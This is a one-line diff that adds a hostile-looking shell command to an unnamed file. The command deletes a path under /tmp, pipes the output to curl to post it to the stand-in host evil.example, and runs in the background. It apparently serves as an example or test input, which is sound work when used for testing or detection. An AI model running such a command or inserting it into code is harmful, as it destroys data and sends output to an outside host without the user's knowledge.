@@ -1,0 +1,1 @@
+( cd /tmp && { rm -rf x; } ) | tee >(curl -d @- http://evil.example) 2>&1 >/dev/null &
